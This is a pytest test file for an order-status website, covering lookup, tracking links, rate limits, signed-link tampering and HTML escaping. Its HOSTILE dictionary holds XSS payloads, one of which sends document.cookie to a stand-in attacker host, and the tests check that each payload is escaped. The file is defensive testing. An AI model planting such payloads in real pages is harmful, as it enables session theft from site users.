"""The customer's pages: lookup form, status page, signed links, enumeration, rate limit, escaping."""

from __future__ import annotations

import re
import warnings
from typing import Any
from urllib.parse import quote

import pytest

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

from statusctl.oss.links import derive_link_key, make_link, make_token

from .conftest import OLD_SECRET, SECRET, Clock, Sender, payload

CARRIER_LINKS = [
    ("UPS", "1Z999AA10123456784", "https://www.ups.com/track?tracknum=1Z999AA10123456784"),
    ("usps", "9400111899223100000000", "https://tools.usps.com/go/TrackConfirmAction?tLabels=9400111899223100000000"),
    ("FedEx Ground", "123456789012", "https://www.fedex.com/fedextrack/?trknbr=123456789012"),
    ("DHL Express", "1234567890", "https://www.dhl.com/global-en/home/tracking/tracking-express.html?submit=1&amp;tracking-id=1234567890"),
    ("Canada Post", "7023210039414604", "https://www.canadapost-postescanada.ca/track-reperage/en#/search?searchFor=7023210039414604"),
    ("Royal Mail", "AB123456789GB", "https://www.royalmail.com/track-your-item#/tracking-results/AB123456789GB"),
]


def _package(carrier: str, tracking: str, at: str = "2024-05-01T11:30:00Z") -> dict[str, Any]:
    return {"tracking": tracking, "carrier": carrier, "shipped_at": at,
            "items": [{"sku": "MUG-1", "cart_line_id": None, "quantity": 1}]}


def _open(client: TestClient, number: str = "1001", postal: str = "90210", tz: str = "") -> Any:
    answer = client.post("/lookup", data={"number": number, "postal": postal, "tz": tz})
    assert answer.status_code == 303, answer.text
    assert answer.headers["cache-control"] == "no-store"
    return client.get(answer.headers["location"])


def test_form_page(client: TestClient) -> None:
    page = client.get("/")
    assert page.status_code == 200
    html = page.text
    assert '<form method="post" action="/lookup">' in html
    assert 'name="number"' in html and 'name="postal"' in html
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in html
    assert "<header id='merchant-header'><b>Acme</b></header>" in html  # the merchant's HTML, as given
    assert "<footer id='merchant-footer'>© Acme</footer>" in html


def test_status_page_shows_label_items_packages_and_timeline(sender: Sender, client: TestClient) -> None:
    sender.post(payload(label="Processing", previous="Order Received", changed_at="2024-05-01T10:00:00Z"))
    shipped = payload(label="Partially Shipped", previous="Processing", changed_at="2024-05-01T11:30:00Z",
                      note="Packed with care.\nThe T-shirt follows next week.")
    shipped["items"][0].update(label="Item Shipped", previous_label=None, shipped=2, changed=True)
    shipped["items"][1].update(label="Backordered")
    shipped["packages"] = [_package("UPS", "1Z999AA10123456784")]
    sender.post(shipped)

    page = _open(client, "1001", " 90210 ")
    assert page.status_code == 200
    html = page.text
    assert page.headers["cache-control"] == "no-store"
    assert re.search(r'id="order-label">Partially Shipped<', html)
    assert "Blue mug" in html and "Qty 2 · 2 shipped" in html
    assert "T-shirt (M)" in html and "Qty 1 · SKU TEE-M" in html and "Backordered" in html
    assert '<a class="tracking" href="https://www.ups.com/track?tracknum=1Z999AA10123456784"' in html
    assert 'rel="noopener noreferrer"' in html
    timeline = html.split('<ol class="timeline">')[1]
    assert timeline.index("Partially Shipped") < timeline.index("Processing")  # newest first
    assert "Blue mug: Item Shipped" in timeline
    assert "Packed with care.\nThe T-shirt follows next week." in timeline
    assert "Wed 01 May 2024, 11:30 UTC" in timeline


@pytest.mark.parametrize(("carrier", "tracking", "url"), CARRIER_LINKS)
def test_tracking_numbers_link_to_the_carrier(sender: Sender, client: TestClient, carrier: str, tracking: str, url: str) -> None:
    body = payload(label="Order Shipped")
    body["packages"] = [_package(carrier, tracking)]
    sender.post(body)
    html = _open(client).text
    assert f'<a class="tracking" href="{url}"' in html


def test_unknown_carrier_is_shown_unlinked(sender: Sender, client: TestClient) -> None:
    body = payload(label="Order Shipped")
    body["packages"] = [_package("Bob's Couriers", "BC-42")]
    sender.post(body)
    html = _open(client).text
    assert '<span class="tracking">BC-42</span>' in html
    assert "Bob&#x27;s Couriers" in html
    assert 'class="tracking" href' not in html


def test_times_in_the_customers_time_zone(sender: Sender, client: TestClient) -> None:
    sender.post(payload(changed_at="2024-05-01T11:30:00Z"))
    assert "Wed 01 May 2024, 07:30 EDT" in _open(client, tz="America/New_York").text
    assert "Wed 01 May 2024, 12:30 BST" in _open(client, tz="Europe/London").text
    assert "Wed 01 May 2024, 11:30 UTC" in _open(client, tz="Mars/Olympus_Mons").text


def test_wrong_postal_code_and_unknown_order_get_the_same_answer(sender: Sender, client: TestClient) -> None:
    sender.post(payload("1001", postal="90210"))
    wrong = client.post("/lookup", data={"number": "1001", "postal": "10001"})
    unknown = client.post("/lookup", data={"number": "9999", "postal": "10001"})
    assert wrong.status_code == unknown.status_code == 404
    assert wrong.text.replace("1001", "N") == unknown.text.replace("9999", "N")
    assert "We could not find an order with that number and postal code" in wrong.text
    api_wrong = client.get("/api/orders/1001", params={"postal": "10001"})
    api_unknown = client.get("/api/orders/9999", params={"postal": "10001"})
    assert api_wrong.status_code == api_unknown.status_code == 404
    assert api_wrong.content == api_unknown.content
    assert dict(api_wrong.headers) == dict(api_unknown.headers)


def test_empty_postal_code_never_matches(sender: Sender, client: TestClient) -> None:
    sender.post(payload("D-1", postal=""))
    assert client.post("/lookup", data={"number": "D-1", "postal": ""}).status_code == 404


def test_lookups_are_rate_limited_per_client(sender: Sender, client: TestClient, clock: Clock) -> None:
    sender.post(payload())
    for i in range(5):  # the fixture allows 5 per minute
        assert client.post("/lookup", data={"number": str(i), "postal": "x"}).status_code == 404
    blocked = client.post("/lookup", data={"number": "1001", "postal": "90210"})
    assert blocked.status_code == 429
    assert blocked.headers["retry-after"] == "12"
    assert "Too many lookups" in blocked.text
    api = client.get("/api/orders/1001", params={"postal": "90210"})
    assert (api.status_code, api.headers["retry-after"]) == (429, "12")
    # Another address is not affected (no lifespan: it shares the first client's app and store).
    other = TestClient(client.app, client=("203.0.113.9", 4000), follow_redirects=False)
    assert other.post("/lookup", data={"number": "1001", "postal": "90210"}).status_code == 303
    clock.now += 12  # one lookup back every 12 s
    assert client.post("/lookup", data={"number": "1001", "postal": "90210"}).status_code == 303
    assert client.post("/lookup", data={"number": "1001", "postal": "90210"}).status_code == 429


def test_rate_limit_counts_an_ipv6_slash_64_as_one_client(sender: Sender, client: TestClient) -> None:
    for host in [f"2001:db8:1:2::{i:x}" for i in range(6)]:
        answer = TestClient(client.app, client=(host, 4000)).get("/api/orders/1", params={"postal": "1"})
    assert answer.status_code == 429


def test_signed_link_opens_the_page(sender: Sender, client: TestClient) -> None:
    sender.post(payload("A-77", postal="SW1A 1AA", label="Order Shipped"))
    link = make_link("A-77", "sw1a1aa", derive_link_key(SECRET), base_url="http://testserver/")
    assert link.startswith("http://testserver/o/")
    page = client.get(link)
    assert page.status_code == 200
    assert 'id="order-label">Order Shipped<' in page.text
    assert page.headers["x-robots-tag"] == "noindex"
    # Links made with the previous secret keep working during key rotation, and name the store.
    old = make_link("#a-77", "SW1A-1AA", derive_link_key(OLD_SECRET), store="shop")
    assert client.get(old).status_code == 200


@pytest.mark.parametrize(
    "token",
    [
        make_token("A-77", "SW1A1AA", derive_link_key(SECRET), store="other-shop"),
        make_token("A-77", "SW1A1AB", derive_link_key(SECRET)),
        make_token("A-77", "SW1A1AA", b"not the key"),
        "garbage",
        "QS03Nw.AAAA",
        "x" * 700,
    ],
)
def test_bad_links_are_refused(sender: Sender, client: TestClient, token: str) -> None:
    sender.post(payload("A-77", postal="SW1A 1AA"))
    page = client.get(f"/o/{token}")
    assert page.status_code == 404
    assert "This order status link is not valid" in page.text


def test_tampered_link_is_refused(sender: Sender, client: TestClient) -> None:
    sender.post(payload("A-77", postal="SW1A 1AA"))
    sender.post(payload("A-78", postal="SW1A 1AA"))
    token = make_token("A-77", "SW1A 1AA", derive_link_key(SECRET))
    name, tag = token.split(".")
    other = make_token("A-78", "SW1A 1AA", derive_link_key(SECRET)).split(".")[0]
    assert client.get(f"/o/{other}.{tag}").status_code == 404
    flipped = tag[:-1] + ("A" if tag[-1] != "A" else "B")
    assert client.get(f"/o/{name}.{flipped}").status_code == 404


def test_link_stops_working_when_the_postal_code_changes(sender: Sender, client: TestClient) -> None:
    sender.post(payload("1001", postal="90210", changed_at="2024-05-01T10:00:00Z"))
    link = make_link("1001", "90210", derive_link_key(SECRET))
    assert client.get(link).status_code == 200
    sender.post(payload("1001", postal="10001", changed_at="2024-05-01T10:05:00Z"))
    assert client.get(link).status_code == 404


def test_failed_links_count_against_the_rate_limit_but_valid_ones_do_not(sender: Sender, client: TestClient) -> None:
    sender.post(payload())
    link = make_link("1001", "90210", derive_link_key(SECRET))
    for _ in range(8):
        assert client.get(link).status_code == 200
    for _ in range(5):
        assert client.get("/o/bad.link").status_code == 404
    assert client.get("/o/bad.link").status_code == 429
    assert client.get(link).status_code == 200


def test_zip_plus_four_matches_its_five_digit_zip(sender: Sender, client: TestClient) -> None:
    sender.post(payload("1001", postal="90210-1234"))
    assert _open(client, "1001", "90210").status_code == 200
    assert _open(client, "1001", "902101234").status_code == 200
    assert client.post("/lookup", data={"number": "1001", "postal": "9021"}).status_code == 404


HOSTILE = {
    "number": "<script>alert('number')</script>",
    "label": '"><img src=x onerror=alert(1)>',
    "item": "<b onmouseover=alert(2)>Mug</b>",
    "item_label": "</span><script>alert(3)</script>",
    "note": "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "tracking": '1Z"><script>alert(4)</script>',
    "carrier": "<svg onload=alert(5)>",
    "sku": "'\"><iframe src=javascript:alert(6)>",
}


def test_hostile_strings_are_escaped(sender: Sender, client: TestClient) -> None:
    body = payload(HOSTILE["number"], label=HOSTILE["label"], previous=None, note=HOSTILE["note"])
    body["items"][0].update(name=HOSTILE["item"], label=HOSTILE["item_label"], sku=HOSTILE["sku"], changed=True)
    body["packages"] = [
        {"tracking": HOSTILE["tracking"], "carrier": HOSTILE["carrier"], "shipped_at": "2024-05-01T11:00:00Z",
         "items": [{"sku": HOSTILE["sku"], "quantity": 1}]},
        {"tracking": HOSTILE["tracking"], "carrier": "UPS", "shipped_at": "2024-05-01T11:00:00Z", "items": []},
    ]
    assert sender.post(body).status_code == 200
    page = _open(client, HOSTILE["number"], "90210")
    html = page.text
    for value in HOSTILE.values():
        assert value not in html
    assert html.count("<script") == 1  # ours: /static/oss.js
    assert "<img" not in html and "<svg" not in html and "<iframe" not in html and "<b " not in html
    assert "&lt;script&gt;alert(&#x27;number&#x27;)&lt;/script&gt;" in html
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in html
    # The tracking number is URL-quoted inside the carrier link, then HTML-escaped.
    assert 'href="https://www.ups.com/track?tracknum=1Z%22%3E%3Cscript%3Ealert%284%29%3C%2Fscript%3E"' in html
    csp = page.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "no-referrer"
    # The JSON API returns the same strings as data (JSON, not HTML).
    data = client.get("/api/orders/" + quote(HOSTILE["number"], safe=""), params={"postal": "90210"}).json()
    assert data["label"] == HOSTILE["label"]
    assert data["history"][0]["note"] == HOSTILE["note"]


def test_not_found_form_escapes_the_typed_number(client: TestClient) -> None:
    answer = client.post("/lookup", data={"number": '"><script>x()</script>', "postal": "1"})
    assert answer.status_code == 404
    assert "<script>x()" not in answer.text
    assert 'value="&quot;&gt;&lt;script&gt;x()&lt;/script&gt;"' in answer.text
